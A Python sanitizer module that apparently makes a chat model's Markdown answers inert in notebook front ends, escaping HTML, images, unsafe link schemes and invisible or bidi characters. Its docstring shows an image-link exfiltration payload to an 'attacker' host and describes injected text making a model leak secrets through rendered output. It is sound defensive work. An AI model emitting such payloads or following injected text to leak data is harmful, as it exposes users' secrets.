"""The Markdown of an answer as other front ends show it: no raw HTML, no images.

A ``%chat`` answer's ``text/markdown`` (kernel/live.py, kernel/client.py) is what VS
Code, Colab, nbviewer or a JupyterLab without this extension render, and what the saved
notebook keeps. Their renderers pass raw HTML and load any image, so a model answer (or
injected text it repeats) with ``![x](https://attacker/?q=<secret>)`` or ``<img src=...>``
would send a request nobody asked for. Our own renderer (js/src/ui/markdown.ts) shows
raw HTML as text and turns outside images into links; this does the same for the plain
Markdown.

Renderers differ on where code starts and ends (a backslash before a backtick, a code
span over two lines, a fence inside a list item, a fence closed by ```` ```~ ```` in
marked), so safety never rests on agreeing with them. Every line comes out inert
whatever a renderer makes of it: outside code ``<`` becomes ``&lt;`` and ``![`` becomes
``&#33;[`` (a link the person may open); an inline code span holding ``<`` or ``!`` is
written as ``<code>`` with its text as character references (shown the same); a fenced
block is kept as Markdown (highlighted) only where every renderer reads it as one
fence, otherwise, when it holds ``<`` or ``![``, it is one ``<pre><code>`` line. The
only ``<`` left are those tags of ours.
"""

from __future__ import annotations

import html
import re
import unicodedata

# A fence opener: up to 3 spaces, 3+ backticks or tildes, the info string.
_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
_BACKTICKS = re.compile(r"`+")
# ASCII punctuation (and line ends), written as character references inside our
# <code>: no Markdown (emphasis, escapes, images) and no HTML can come of it anywhere.
_REFERENCES = {
    c: f"&#{c};" for c in [*range(0x21, 0x30), *range(0x3A, 0x41), *range(0x5B, 0x61)]
} | {c: f"&#{c};" for c in [*range(0x7B, 0x7F), 0x0A, 0x0D]}


# A link's destination as a renderer may read it: after ``](`` (an inline link) or ``]:``
# (a reference definition), spaces allowed, up to the next space; empty when it is on
# the next line (CommonMark allows one line break there).
_LINK = re.compile(r"\](\s*)([(:])(\s*)(\S*)")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):", re.I)
# What a renderer reads past: whitespace, controls and the pointy brackets around it.
_IGNORED = re.compile(r"[\x00-\x20\x7f-\x9f<>]")
SAFE_LINK_SCHEMES = frozenset({"http", "https", "mailto"})


def _unsafe_destination(destination: str) -> bool:
    """Whether a link to ``destination`` could do more than open a page: a scheme other
    than http(s) or mailto (``javascript:``, ``data:``, ``vbscript:``, VS Code's
    ``command:``) once references (``java&#115;cript``) and escapes are read, or a
    destination on the next line, which is not looked at."""
    if not destination:
        return True
    url = _IGNORED.sub("", html.unescape(destination).replace("\\", ""))
    scheme = _SCHEME.match(url)
    return scheme is not None and scheme.group(1).lower() not in SAFE_LINK_SCHEMES


def _inert_links(text: str) -> str:
    """``text`` with each link to an unsafe destination left as text: its ``(`` or
    ``:`` escaped (shown the same, no link made); web and relative links stay."""

    def inert(match: re.Match[str]) -> str:
        if not _unsafe_destination(match.group(4)):
            return match.group(0)
        spaces, opener, gap, destination = match.groups()
        return f"]{spaces}\\{opener}{gap}{destination}"

    return _LINK.sub(inert, text) if "]" in text else text


def _inert_text(text: str) -> str:
    return _inert_links(text.replace("<", "&lt;").replace("![", "&#33;["))


def _references(text: str) -> str:
    return text.translate(_REFERENCES)


# What Unicode draws as nothing (Default_Ignorable_Code_Point), the controls that reorder
# text aside (reveal_reorders shows those everywhere): in code they change a name or a
# string invisibly. Python takes ``cmd`` and ``cmd<U+034F>`` for two names drawn alike,
# so ``cmd = "ls"`` could stand above an ``os.system(cmd<U+034F>)`` that runs another
# command. js/src/ui/bidi.ts marks the same in code.
_INVISIBLE = re.compile(
    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f"
    "\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufff8"
    "\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff]"
)
_SELECTORS = re.compile("[\u180b-\u180d\u180f\ufe00-\ufe0f\U000e0100-\U000e01ef]")


def _part_of_a_name(ch: str) -> bool:
    return (
        ch.isalnum()
        or ch == "_"
        or unicodedata.category(ch)[0] == "M"
        or bool(_INVISIBLE.match(ch))
    )


def reveal_invisible(code: str) -> str:
    """``code`` with each character drawn as nothing written as its code point
    (``⟦U+034F⟧``), but a variation selector after a symbol (an emoji's: ``⚠️``)."""
    if not _INVISIBLE.search(code):
        return code

    def shown(match: re.Match[str]) -> str:
        ch, at = match.group(), match.start()
        if _SELECTORS.match(ch) and at and not _part_of_a_name(code[at - 1]):
            return ch
        return f"⟦U+{ord(ch):04X}⟧"

    return _INVISIBLE.sub(shown, code)


def _inert_span(span: str, run: int) -> str:
    body = reveal_invisible(span[run:-run])
    if "<" not in body and "!" not in body and _inert_links(body) == body:
        # Nothing in it can become HTML, an image or a link, however read.
        return span[:run] + body + span[-run:]
    if body.startswith(" ") and body.endswith(" ") and body.strip(" "):
        body = body[1:-1]  # as CommonMark shows a span
    return f"<code>{_references(body)}</code>"


def _code_spans(line: str) -> list[tuple[int, int, int]]:
    """The line's code spans (start, end, run length): a backtick run up to the next run
    of the same length. Each run's next of its length is found in one pass from the
    right, so the work is linear (a regex's lazy search for the closing run read the
    rest of the line again for every run of a length never repeated)."""
    runs = [(m.start(), m.end()) for m in _BACKTICKS.finditer(line)]
    following: list[int] = [-1] * len(runs)
    last_of: dict[int, int] = {}
    for i in range(len(runs) - 1, -1, -1):
        size = runs[i][1] - runs[i][0]
        following[i] = last_of.get(size, -1)
        last_of[size] = i
    spans: list[tuple[int, int, int]] = []
    i = 0
    while i < len(runs):
        j = following[i]
        if j < 0:
            i += 1
            continue
        spans.append((runs[i][0], runs[j][1], runs[i][1] - runs[i][0]))
        i = j + 1
    return spans


def _inert_line(line: str) -> str:
    if "`" not in line:
        return _inert_text(line)
    out: list[str] = []
    last = 0
    for start, end, run in _code_spans(line):
        out.append(_inert_text(line[last:start]))
        out.append(_inert_span(line[start:end], run))
        last = end
    out.append(_inert_text(line[last:]))
    return "".join(out)


def _indent(line: str) -> int:
    return len(line) - len(line.lstrip(" "))


def _closes(line: str, fence: str, strict: bool) -> bool:
    """Whether ``line`` closes ``fence``: as CommonMark says (``strict``), or as some
    renderer might (the fence's characters, then anything)."""
    match = _FENCE.match(line)
    if match is None or match.group(2)[0] != fence[0] or len(match.group(2)) < len(fence):
        return False
    return not match.group(3).strip() if strict else True


def _fence_block(lines: list[str], start: int) -> tuple[list[str], int] | None:
    """The inert form of the fence opened at ``lines[start]`` and the index after it,
    or None when that line opens no fence."""
    opener = _FENCE.match(lines[start])
    if opener is None:
        return None
    indent, fence, info = opener.groups()
    if fence[0] == "`" and "`" in info:
        return None  # CommonMark: not a fence, a code span
    end = start + 1
    while end < len(lines) and not _closes(lines[end], fence, strict=True):
        if indent and lines[end].strip() and _indent(lines[end]) < len(indent):
            break  # the list item the fence is in ends here, and the fence with it
        end += 1
    body = lines[start + 1 : end]
    closed = end < len(lines) and _closes(lines[end], fence, strict=True)
    closing = lines[end : end + 1] if closed else []
    # Every renderer reads it as this one fence: backticks (some renderers know no tilde
    # fence), at the margin (no list item or quote around it) and no line inside that
    # some renderer would take as its end.
    agreed = (
        fence[0] == "`"
        and not indent
        and not any(_closes(line, fence, strict=False) for line in body)
    )
    body = [reveal_invisible(line) for line in body]
    text = "\n".join(body)
    after = end + len(closing)
    if agreed or ("<" not in text and "![" not in text and _inert_links(text) == text):
        opener_line = lines[start][: -len(info) or None] + _inert_text(info)
        return [opener_line, *body, *closing], after
    if indent:  # a body line shows without the opener's indentation, as CommonMark does
        text = "\n".join(line[min(len(indent), _indent(line)) :] for line in body)
    words = info.split()
    language = re.sub(r"[^\w+-]", "", words[0]) if words else ""
    cls = f' class="language-{language}"' if language else ""
    return [f"{indent}<pre><code{cls}>{_references(text)}</code></pre>"], after


# The controls that reorder the text after them (embeddings, overrides, isolates):
# "Trojan Source" (CVE-2021-42574).
_REORDERS = re.compile("[\u202a-\u202e\u2066-\u2069]")


def reveal_reorders(text: str) -> str:
    """``text`` with each control that reorders text written as its code point
    (``⟦U+202E⟧``): other front ends draw an answer's words as those controls order
    them ("x<U+202E>gnp.exe" as "xexe.png"); our own renderer marks them (bidi.ts)."""
    if not _REORDERS.search(text):
        return text
    return _REORDERS.sub(lambda m: f"⟦U+{ord(m.group()):04X}⟧", text)


def inert_markdown(text: str) -> str:
    """``text`` with raw HTML shown as text, images as links and links that could run
    something as text, code shown as code, and controls that reorder text shown as
    their code points."""
    text = reveal_reorders(text)
    if (
        "<" not in text
        and "![" not in text
        and _inert_links(text) == text
        and not _INVISIBLE.search(text)
    ):
        return text
    lines = text.split("\n")
    out: list[str] = []
    i = 0
    code = in_list = False  # in an indented code block; in a list item
    while i < len(lines):
        block = _fence_block(lines, i)
        if block is None:
            line = lines[i]
            if line.strip():
                width = len(line.expandtabs(4)) - len(line.expandtabs(4).lstrip(" "))
                after_blank = i == 0 or not lines[i - 1].strip()
                # An indented code block: 4+ columns in, after a blank line or code, not
                # a list item's next paragraph; its characters drawn as nothing shown.
                code = width >= 4 and (code or (after_blank and not in_list))
                if width < 4:
                    in_list = bool(_LIST_ITEM.match(line)) or (in_list and not after_blank)
            out.append(_inert_line(reveal_invisible(line) if code else line))
            i += 1
        else:
            kept, i = block
            out.extend(kept)
            code = False
    return "\n".join(out)


_LIST_ITEM = re.compile(r"[ ]{0,3}(?:[-*+]|[0-9]{1,9}[.)])(?:[ \t]|$)")
